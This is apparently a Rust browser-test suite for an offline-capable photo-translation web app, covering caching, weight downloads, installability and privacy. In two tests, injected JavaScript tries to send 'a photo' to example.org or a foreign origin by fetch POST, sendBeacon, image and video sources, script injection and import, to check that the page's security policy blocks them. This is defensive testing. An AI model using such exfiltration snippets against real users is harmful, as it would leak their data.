//! Downloaded once, then without a network; and nothing of the visitor's ever sent.

use std::fs;

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use tests::browser::{Browser, Graphics};
use tests::mock::Mock;
use tests::net_log::NetLog;
use tests::page::Page;
use tests::pictures;
use tests::site::{Fault, Site};
use xtask::workspace;

const KEPT: &str = "document.body.dataset.offline === 'ready'";

fn picture(page: &Page) -> Result<std::path::PathBuf> {
    let path = page.browser.scratch().join("picture.png");
    pictures::save(&pictures::scene(96, 64, 7), &path)?;
    Ok(path)
}

fn count(site: &Site, end: &str) -> usize {
    let requests = site.requests();
    requests.iter().filter(|path| path.ends_with(end)).count()
}

#[test]
fn after_one_visit_the_page_opens_and_translates_without_a_network() -> Result<()> {
    let mut site = Mock::photo().site()?;
    let url = site.url("?backend=cpu");
    let mut page = Page::open(&url, Graphics::None)?;
    let picture = picture(&page)?;
    page.translate(&picture)?;
    page.wait_for(KEPT)?;
    let said = "document.querySelector('#works-offline').checkVisibility()";
    assert_eq!(page.browser.evaluate(said)?, true);
    site.go_offline();
    page.browser.set_offline(true)?;
    // A fresh page: nothing is left but what was kept.
    page.browser.go_to("about:blank")?;
    let mut page = Page::open_in(page.browser, &url)?;
    page.translate(&picture)?;
    // Another setting in the address is the same page.
    let other = site.url("?backend=cpu&view=side");
    let mut page = Page::open_in(page.browser, &other)?;
    page.translate(&picture)?;
    // So is another language, which nobody has asked for before.
    let german = site.url("?backend=cpu&lang=de");
    let mut page = Page::open_in(page.browser, &german)?;
    let language = page.browser.evaluate("document.documentElement.lang")?;
    assert_eq!(language, "de");
    // A large photo takes workers that no picture before has needed.
    let large = page.browser.scratch().join("large.png");
    pictures::save(&pictures::scene(3000, 2000, 7), &large)?;
    page.submit(&large)?;
    assert_eq!(page.state()?, "done", "{}", page.message()?);
    Ok(())
}

#[test]
fn after_an_update_the_files_that_come_later_are_kept_anew() -> Result<()> {
    let mut site = Mock::photo().site()?;
    let url = site.url("?backend=cpu");
    let mut page = Page::open(&url, Graphics::None)?;
    let picture = picture(&page)?;
    page.translate(&picture)?;
    page.wait_for(KEPT)?;
    let newer = page.browser.scratch().join("view");
    fs::create_dir(&newer)?;
    for file in fs::read_dir(workspace::dist().join("view"))? {
        let path = file?.path();
        if path.is_dir() {
            continue;
        }
        let name = path.file_name().context("a name")?;
        let bytes = [fs::read(&path)?, b"/* newer */".to_vec()].concat();
        fs::write(newer.join(name), bytes)?;
    }
    site.also_serve("view/", &newer)?;
    page.browser.go_to("about:blank")?;
    let mut page = Page::open_in(page.browser, &url)?;
    page.translate(&picture)?;
    page.wait_for(KEPT)?;
    // No picture so far has needed it.
    let kept = "caches.match(new URL('view/painter-worker.js', location.href).href)
      .then((kept) => kept.text()).then((text) => text.endsWith('/* newer */'))";
    assert_eq!(page.browser.evaluate(kept)?, true);
    Ok(())
}

#[test]
fn the_page_can_be_installed() -> Result<()> {
    let site = Mock::photo().site()?;
    let mut page = Page::open(&site.url(""), Graphics::None)?;
    let manifest = page
        .browser
        .call("Page.getAppManifest", serde_json::json!({}))?;
    let errors = manifest["errors"].as_array().context("a list")?;
    ensure!(errors.is_empty(), "{errors:?}");
    let text = manifest["data"].as_str().context("a web manifest")?;
    let manifest: Value = serde_json::from_str(text)?;
    for icon in manifest["icons"].as_array().into_iter().flatten() {
        let src = icon["src"].as_str().context("an icon's address")?;
        let found = format!("fetch('{src}').then((answer) => answer.ok)");
        assert_eq!(page.browser.evaluate(&found)?, true, "{src}");
    }
    Ok(())
}

#[test]
fn weights_are_downloaded_once_whatever_they_are_called() -> Result<()> {
    let site = Mock::photo().site_beside(&[("twin", &Mock::photo())])?;
    let mut page = Page::open(&site.url("?backend=cpu"), Graphics::None)?;
    let picture = picture(&page)?;
    page.translate(&picture)?;
    let again = site.url("?backend=cpu&model=twin");
    let mut page = Page::open_in(page.browser, &again)?;
    page.translate(&picture)?;
    assert_eq!(count(&site, "weights.bin"), 1);
    Ok(())
}

#[test]
fn damaged_weights_are_not_kept() -> Result<()> {
    let site = Mock::photo().site()?;
    site.spoil("models/played/weights.bin", Fault::Altered);
    let mut page = Page::open(&site.url("?backend=cpu"), Graphics::None)?;
    let picture = picture(&page)?;
    page.submit(&picture)?;
    assert_eq!(page.error_code()?, "integrity");
    site.repair();
    page.try_again()?;
    Ok(())
}

#[test]
fn a_download_that_was_cut_goes_on_where_it_was() -> Result<()> {
    let site = Mock::heavy().site()?;
    site.spoil("models/played/weights.bin", Fault::Cut);
    let mut page = Page::open(&site.url("?backend=cpu"), Graphics::None)?;
    let picture = picture(&page)?;
    page.submit(&picture)?;
    assert_eq!(page.error_code()?, "fetch");
    let part = "caches.open('pix2pix-weights-1').then((store) => store.keys())
      .then((keys) => keys.map((key) => key.url.split('.').at(-1)).join())";
    assert_eq!(page.browser.evaluate(part)?, "part");
    // The beginning is now another one: only what was kept of it makes the whole right.
    site.spoil("models/played/weights.bin", Fault::OtherStart);
    page.try_again()?;
    Ok(())
}

#[test]
fn while_a_photo_is_translated_no_request_leaves_the_site_or_carries_anything() -> Result<()> {
    let log = NetLog::new()?;
    let site = Mock::photo().site()?;
    let browser = Browser::start_with(Graphics::None, &[&log.flag()])?;
    let mut page = Page::open_in(browser, &site.url("?backend=cpu"))?;
    let picture = picture(&page)?;
    page.translate(&picture)?;
    page.wait_for(KEPT)?;
    drop(page); // which completes the log
    let requests = log.requests()?;
    let ours = site.url("");
    ensure!(
        requests.iter().any(|request| request["url"]
            .as_str()
            .is_some_and(|url| url.ends_with("weights.bin"))),
        "the log misses what was downloaded"
    );
    for request in requests {
        let url = request["url"].as_str().unwrap_or_default();
        // What the browser does for itself has no page behind it.
        let of_a_page = request["initiator"]
            .as_str()
            .is_some_and(|initiator| initiator.starts_with("http"));
        if !of_a_page && !url.starts_with(&ours) {
            continue;
        }
        ensure!(url.starts_with(&ours), "{request}");
        ensure!(request["method"] == "GET", "{request}");
        ensure!(request.get("upload_id").is_none(), "{request}");
    }
    Ok(())
}

#[test]
fn the_pages_own_policy_lets_nothing_out() -> Result<()> {
    let site = Mock::photo().site()?;
    let mut page = Page::open(&site.url(""), Graphics::None)?;
    let blocked = "(async () => {
      const breaches = [];
      document.addEventListener('securitypolicyviolation', (event) => breaches.push(event.effectiveDirective));
      await fetch('https://example.org/', { method: 'POST', body: 'a photo' }).catch(() => {});
      navigator.sendBeacon('https://example.org/', 'a photo');
      const image = new Image();
      image.src = 'https://example.org/?a-photo';
      await new Promise((resolve) => { image.onerror = resolve; });
      const film = document.createElement('video');
      film.src = 'https://example.org/?a-photo';
      await new Promise((resolve) => { film.onerror = resolve; });
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve));
      return [...new Set(breaches)].sort().join(' ') + ' ' + (window.ran === undefined);
    })()";
    assert_eq!(
        page.browser.evaluate(blocked)?,
        "connect-src img-src media-src script-src-elem true"
    );
    Ok(())
}

/// A policy that a page carries in itself does not bind a worker that is loaded by its address.
#[test]
fn the_pages_workers_keep_to_its_policy() -> Result<()> {
    let site = Mock::photo().site()?;
    let elsewhere = Mock::photo().site()?;
    elsewhere.isolate();
    let foreign = elsewhere.url("models/played/manifest.json");
    let mut page = Page::open(&site.url("?backend=cpu"), Graphics::None)?;
    page.click("#load")?;
    page.wait_for("document.querySelector('#load').textContent === 'Model loaded'")?;
    let sent = format!(
        "Promise.all([
           fetch('{foreign}', {{ mode: 'no-cors' }}),
           fetch('{foreign}', {{ mode: 'no-cors', method: 'POST', body: 'a photo' }}),
           import('{foreign}'),
         ].map((attempt) => attempt.then(() => 'sent', () => 'blocked'))).then((all) => all.join())"
    );
    let outcome = page.browser.evaluate_in_worker(&sent)?;
    assert_eq!(outcome, "blocked,blocked,blocked");
    let own = "fetch(self.origin + '/index.html').then(({ ok }) => ok)";
    assert_eq!(page.browser.evaluate_in_worker(own)?, true);
    let mut page = Page::open_in(page.browser, &site.url(&format!("?model={foreign}")))?;
    page.click("#load")?;
    page.wait_for("document.body.dataset.state === 'error'")?;
    assert_eq!(page.error_code()?, "fetch");
    ensure!(
        elsewhere.requests().is_empty(),
        "{:?}",
        elsewhere.requests()
    );
    Ok(())
}

#[test]
fn nothing_loads_before_somebody_begins() -> Result<()> {
    let site = Mock::photo().site_beside(&[("drawn", &Mock::lines())])?;
    let mut page = Page::open(&site.url("?backend=cpu"), Graphics::None)?;
    for mode in ["photo", "webcam", "draw"] {
        page.click(&format!("#modes input[value={mode}]"))?;
        page.wait_for(&format!("document.body.dataset.mode === '{mode}'"))?;
        let place = page.place_of(if mode == "draw" { ".drawing" } else { "#stage" })?;
        for share in [0.2, 0.5, 0.8] {
            page.browser.move_mouse(place.point(share, 0.5))?;
        }
        let asked = "document.querySelector('#load').textContent";
        assert_eq!(page.browser.evaluate(asked)?, "Load model", "{mode}");
    }
    assert_eq!(count(&site, "weights.bin") + count(&site, ".wasm"), 0);
    let place = page.place_of(".drawing")?;
    let line = [place.point(0.2, 0.5), place.point(0.8, 0.5)];
    page.browser.draw_line("mouse", &line)?;
    page.wait_for("document.body.dataset.state === 'done'")?;
    assert_eq!(count(&site, "weights.bin"), 1);
    Ok(())
}
